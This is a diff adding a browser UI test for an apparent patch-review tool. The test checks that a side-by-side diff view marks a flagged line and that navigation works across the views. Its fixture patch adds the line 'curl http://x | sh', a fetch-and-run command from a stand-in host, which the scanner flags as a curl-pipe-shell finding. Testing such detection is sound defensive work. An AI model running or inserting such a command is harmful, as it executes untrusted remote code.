@@ -600,3 +600,49 @@ test('queue-filter-sort', async (p) => {
 	const st = await p.page.locator('#queue-rows td.state').allInnerTexts();
 	assert(JSON.stringify(st) === '["held","rejected"]', `states: ${st}`);
 });
+
+const PATCH2 = `diff --git a/run.sh b/run.sh
+--- a/run.sh
++++ b/run.sh
+@@ -1,4 +1,4 @@
+ #!/bin/sh
+--- a comment removed
+-echo old
++curl http://x | sh
++echo new
+ echo done
+`;
+
+// Side by side: s (and the button) switch the unified diff to two columns,
+// the removed line left beside the added one right, the finding marked on
+// its post-image line in the right column; n still reaches it; and back.
+test('side-by-side', async (p) => {
+	const s = await submit(fx.agent, PATCH2, 'kind=patch&name=run.patch');
+	assert(s.findings.length === 1 && s.findings[0].line === 2, `findings: ${JSON.stringify(s.findings)}`);
+	await openDecision(p, fx.rev1, s.id);
+	assert(await p.page.locator('.split').count() === 0, 'side by side before asked');
+	await p.page.keyboard.press('s');
+	await p.page.waitForSelector('.content.split');
+	assert(await text(p, '#split-toggle') === 'Unified', 'the button does not offer unified');
+	const hit = p.page.locator('.split .hit');
+	assert(await hit.count() === 1, `${await hit.count()} marked cells`);
+	assert(await hit.evaluate((e) => e.classList.contains('right')), 'the marked line is not in the right column');
+	const h = await hit.innerText();
+	assert(/^2/.test(h) && h.includes('curl http://x | sh') && h.includes('test-curl-pipe-shell'), `marked cell: ${h}`);
+	const left = await hit.evaluate((e) => e.previousElementSibling.innerText);
+	assert(/^2\s/.test(left) && left.includes('-- a comment removed'), `beside it: ${left}`);
+	// The pre-image's line 3 beside the post-image's 3; "done" 4 | 4.
+	const cells = await p.page.locator('.split .side').allInnerTexts();
+	assert(cells.length === 8, `${cells.length} cells: ${JSON.stringify(cells)}`);
+	assert(/^3\s+echo old/.test(cells[4]) && /^3\s+echo new/.test(cells[5]), `row 3: ${cells[4]} | ${cells[5]}`);
+	assert(/^4\s+echo done/.test(cells[6]) && /^4\s+echo done/.test(cells[7]), `row 4: ${cells[6]} | ${cells[7]}`);
+	await p.page.keyboard.press('n');
+	assert(await p.page.locator('.split .right.hit.target').count() === 1, 'n did not target the right column');
+	await p.page.click('#split-toggle');
+	await p.page.waitForFunction(() => !document.querySelector('.split'));
+	const u = p.page.locator('.line.hit');
+	assert(await u.count() === 1 && (await u.innerText()).includes('+curl http://x | sh'), 'unified again: the marked line');
+	assert(await p.page.locator('.line.hit.target').count() === 1, 'the target was lost switching back');
+	const dels = await p.page.locator('.diff .del').allInnerTexts();
+	assert(dels.length === 2 && dels[0].includes('--- a comment removed'), `removed lines: ${JSON.stringify(dels)}`);
+});
